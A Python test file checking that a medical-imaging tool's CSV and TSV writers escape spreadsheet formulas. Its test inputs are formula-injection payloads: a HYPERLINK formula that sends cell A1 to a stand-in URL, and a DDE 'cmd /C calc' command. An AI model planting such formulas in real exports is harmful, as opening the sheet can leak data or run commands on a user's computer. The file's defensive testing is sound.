"""Cells that a spreadsheet program would run."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tatcli.training.prepared_set import Entry
from tatcli.workflows.batch.failures import write_failures
from tatcli.workflows.batch.work import Failure, Outcome, Work
from tatcli.workflows.evaluation import tables
from tatcli.workflows.preparing.manifest import write_manifest
from tatcli.workflows.restore import RestoreConfig
from tatcli.workflows.spreadsheets import as_text

FORMULA = '=HYPERLINK("http://example.org/"&A1,"scan").nii'


@pytest.mark.parametrize("cell", ["sub-01", "", -1.5, 0, None, "1-2", "a=b"])
def test_what_is_no_formula_stays(cell):
    assert as_text(cell) is cell


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formulas_become_text(cell):
    assert as_text(cell) == f"'{cell}"


def test_the_list_of_failures(tmp_path):
    config = RestoreConfig(
        input=Path("/in") / FORMULA.replace("/", "_"), output=Path("/out/x.nii"), task="ct", series="=1"
    )
    failure = Failure(stage="read", reason=f"{FORMULA}: expected a scan", exit_code=3)
    work = Work(config=config, place="x", area=tmp_path)
    write_failures(tmp_path / "failures.csv", [Outcome(work=work, status="failed", failure=failure)])
    with (tmp_path / "failures.csv").open(newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["path"] == str(config.input)
    assert row["series"] == "'=1"
    assert row["reason"] == f"'{FORMULA}: expected a scan"


def test_the_tables_of_an_evaluation(tmp_path):
    tables._write(tmp_path / "x.csv", [{"scan": FORMULA, "psnr": -1.5}])
    with (tmp_path / "x.csv").open(newline="") as stream:
        assert list(csv.DictReader(stream)) == [{"scan": f"'{FORMULA}", "psnr": "-1.5"}]


def test_the_manifest_of_a_prepared_set(tmp_path):
    entry = Entry(key="k", task="ct-denoise", split="", name="x", subject="@me", facts={"rejected": "=1"})
    write_manifest(tmp_path / "MANIFEST.tsv", [entry])
    row = (tmp_path / "MANIFEST.tsv").read_text().splitlines()[1].split("\t")
    assert row[1:6] == ["'@me", "ct-denoise", "", "rejected", "'=1"]
